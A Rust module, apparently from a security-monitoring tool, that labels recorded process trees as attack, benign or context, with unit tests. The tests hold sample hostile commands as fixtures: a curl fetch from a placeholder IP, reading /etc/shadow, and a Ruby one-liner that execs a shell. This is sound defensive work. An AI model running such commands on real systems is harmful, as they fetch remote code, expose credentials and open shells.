//! What a recorded story is: attack, benign or context. By the process tree and the scenario, never by the clock.

use cordon_behavior::story::{Connection, Facts, StdioKind, Story};
use serde::Deserialize;

/// Images whose own story says nothing of an attack: they are context unless the scenario is `whole`.
const PLAIN: &[&str] = &[
    "id",
    "whoami",
    "hostname",
    "uname",
    "ls",
    "sleep",
    "mkdir",
    "rm",
    "touch",
    "true",
    "date",
    "uptime",
    "head",
    "tail",
    "cut",
    "sort",
    "wc",
    "tr",
    "seq",
    "test",
    "dirname",
    "basename",
    "mktemp",
    "pwd",
    "echo",
    "printf",
    "grep",
    "sed",
    "which",
    "env",
    "tty",
    "stat",
    "du",
    "df",
    "free",
    "w",
    "groups",
    "locale",
    "dircolors",
    "lesspipe",
    "uniq",
    "xargs",
    "cat",
    "cp",
    "mv",
    "chown",
    "chmod",
    "ps",
    "ss",
    "ip",
    "last",
    "file",
    "nproc",
    "timeout",
    "tee",
    "fold",
    "lscpu",
    "readlink",
    "getopt",
    "expr",
];
/// What a compiler starts: its own arguments tell nothing that the compiler's do not, and builds all day are full of
/// them. Context also where the scenario is `whole`.
const COMPILED_BY: &[&str] = &[
    "as",
    "cc1",
    "cc1plus",
    "collect2",
    "ld",
    "lto-wrapper",
    "lto1",
];
/// Seen during an attack and no part of it, or above the work.
pub const CONTEXT: &str = "context";

/// What a scenario says of the stories of one of its variants.
#[derive(Clone, Debug, Default, Deserialize)]
pub struct Rule {
    /// `attack` or `benign`.
    label: String,
    /// Forks below the recorder's child at which the work starts.
    depth: u32,
    /// Every process of the work carries the attack.
    whole: bool,
    /// Images that are context whatever else holds.
    context: Vec<String>,
    /// The work's root does by itself things that nobody told it, as a login shell does.
    typed: bool,
}

impl Rule {
    /// The label of a story whose process is `depth` forks below the recorder's child.
    pub fn label(&self, story: &Story, depth: u32) -> String {
        let is_context = depth < self.depth
            || is_greeting(story)
            || (self.label == "attack" && self.is_spared(story, depth));
        let label = if is_context { CONTEXT } else { &self.label };
        label.to_owned()
    }

    /// Whether a story of an attack's work says nothing of the attack.
    fn is_spared(&self, story: &Story, depth: u32) -> bool {
        let image = image_of(story);
        let name = image.rsplit('/').next().unwrap_or(&image);
        if is_compilers(name) || self.context.iter().any(|known| known == name) {
            return true;
        }
        if is_quiet(story) && (is_veiled(story) || (self.typed && depth == self.depth)) {
            return true;
        }
        // A login shell runs `id` and the like by itself before anything is typed.
        let may_spare = !self.whole || (self.typed && depth <= self.depth + 1);
        may_spare && PLAIN.contains(&name) && !takes_secrets(story)
    }
}

/// Whether an image is a compiler's helper, also by the name of its target (`x86_64-linux-gnu-ld.bfd`).
pub fn is_compilers(name: &str) -> bool {
    let name = name.rsplit_once("-gnu-").map_or(name, |(_, tool)| tool);
    let name = name.split_once('.').map_or(name, |(tool, _)| tool);
    COMPILED_BY.contains(&name)
}

/// It has done nothing yet. What it was lent by its makers (the connection that a service took) is no doing.
fn is_quiet(story: &Story) -> bool {
    let facts = Facts {
        logins: Vec::new(),
        ..story.facts.clone()
    };
    let reaches_out = |connection: &Connection| connection.direction == "out";
    story.children.is_empty()
        && !story.connections.iter().any(reaches_out)
        && story.dns.is_empty()
        && story.files.is_empty()
        && facts.is_empty()
}

/// What a server's own greeting runs whenever somebody logs in: `pam_motd` has `run-parts` run it. A line that only names
/// the folder, because it writes there, is the work's own.
fn is_greeting(story: &Story) -> bool {
    let own = story.process.iter().flat_map(|own| &own.argv);
    let above = story.ancestors.iter().flat_map(|above| &above.argv);
    own.chain(above).any(|argument| {
        argument == "/etc/update-motd.d"
            || argument.contains("run-parts --lsbsysinit /etc/update-motd.d")
    })
}

/// A plain tool is more than a plain tool when it reads a secret or touches a decoy.
fn takes_secrets(story: &Story) -> bool {
    let is_telling = |sensitivity: &str| matches!(sensitivity, "secret" | "decoy");
    story.files.iter().any(|file| is_telling(&file.sensitivity))
}

/// An interpreter that was handed a file or its standard input, and has done nothing yet: what it will do is
/// nowhere in its story.
fn is_veiled(story: &Story) -> bool {
    let Some(own) = &story.process else {
        return false;
    };
    let sockets = [own.stdin, own.stdout, own.stderr].contains(&StdioKind::Socket);
    let name = own.exe.rsplit('/').next().unwrap_or_default();
    let is_shell = matches!(name, "bash" | "dash" | "sh");
    let told = own.argv.iter().any(|argument| match argument.as_str() {
        "-c" | "-lc" | "-i" | "-p" => true,
        // Stops at the first error, to a shell.
        "-e" | "-r" => !is_shell,
        text => text.len() > 80,
    });
    let scripted = ["python3", "node", "ruby", "php", "lua", "tclsh"];
    let interpreter = is_shell || scripted.iter().any(|language| name.starts_with(language));
    interpreter && !sockets && !told && !own.deleted_exe && !own.memfd
}

pub fn image_of(story: &Story) -> String {
    story
        .process
        .as_ref()
        .map(|process| process.exe.clone())
        .unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use cordon_behavior::story::{FileOperation, Process, Relative};

    use super::*;

    fn story(exe: &str, argv: &[&str]) -> Story {
        let process = Process {
            exe: exe.to_owned(),
            argv: argv.iter().map(|word| (*word).to_owned()).collect(),
            ..Process::default()
        };
        Story {
            process: Some(process),
            ..Story::default()
        }
    }

    fn attack(whole: bool, typed: bool) -> Rule {
        Rule {
            label: "attack".to_owned(),
            depth: 3,
            whole,
            context: vec!["iconv".to_owned()],
            typed,
        }
    }

    #[test]
    fn what_carries_the_attack_is_one_and_plain_tools_are_not() {
        let rule = attack(false, false);
        let fetch = story("/usr/bin/curl", &["curl", "http://203.0.113.9/x"]);
        assert_eq!(rule.label(&fetch, 3), "attack");
        assert_eq!(rule.label(&fetch, 2), "context");
        let mut look = story("/usr/bin/cat", &["cat", "/etc/shadow"]);
        assert_eq!(rule.label(&look, 4), "context");
        look.files.push(FileOperation {
            op: "read".to_owned(),
            path: "/etc/shadow".to_owned(),
            sensitivity: "secret".to_owned(),
            ..FileOperation::default()
        });
        assert_eq!(rule.label(&look, 4), "attack");
    }

    #[test]
    fn in_a_remote_shell_all_is_the_intruders_but_what_the_scenario_excepts() {
        let rule = attack(true, false);
        assert_eq!(rule.label(&story("/usr/bin/id", &["id"]), 4), "attack");
        for spared in [
            "/usr/bin/iconv",
            "/usr/lib/gcc/cc1",
            "/usr/bin/x86_64-linux-gnu-ld.bfd",
        ] {
            assert_eq!(rule.label(&story(spared, &[]), 5), "context", "{spared}");
        }
        for kept in [
            "/usr/bin/x86_64-linux-gnu-gcc-12",
            "/usr/lib64/ld-linux-x86-64.so.2",
        ] {
            assert_eq!(rule.label(&story(kept, &[]), 5), "attack", "{kept}");
        }
        let typed = attack(true, true);
        assert_eq!(
            typed.label(&story("/usr/bin/id", &["id", "-u"]), 4),
            "context"
        );
        assert_eq!(typed.label(&story("/usr/bin/id", &["id"]), 5), "attack");
    }

    #[test]
    fn an_interpreter_with_a_file_tells_nothing_before_it_acts() {
        let rule = attack(false, false);
        let mut script = story("/usr/bin/bash", &["bash", "-e", "/tmp/x.sh"]);
        assert_eq!(rule.label(&script, 3), "context");
        script.children.push(Relative::default());
        assert_eq!(rule.label(&script, 3), "attack");
        let inline = story("/usr/bin/ruby3.1", &["ruby", "-e", "exec \"sh\""]);
        assert_eq!(rule.label(&inline, 3), "attack");
    }

    #[test]
    fn honest_work_is_benign_below_its_root_and_a_servers_greeting_nothing() {
        let rule = Rule {
            label: "benign".to_owned(),
            depth: 2,
            ..Rule::default()
        };
        let work = story("/usr/bin/id", &["id"]);
        assert_eq!(rule.label(&work, 2), "benign");
        assert_eq!(rule.label(&work, 1), "context");
        let greeting = story("/usr/bin/run-parts", &["run-parts", "/etc/update-motd.d"]);
        assert_eq!(rule.label(&greeting, 4), "context");
        let pam =
            "/usr/bin/env -i run-parts --lsbsysinit /etc/update-motd.d > /run/motd.dynamic.new";
        assert_eq!(
            rule.label(&story("/bin/sh", &["sh", "-c", pam]), 3),
            "context"
        );
        let written = "cp greeting.sh /etc/update-motd.d/60-notes";
        assert_eq!(
            rule.label(&story("/bin/sh", &["sh", "-c", written]), 3),
            "benign"
        );
    }
}
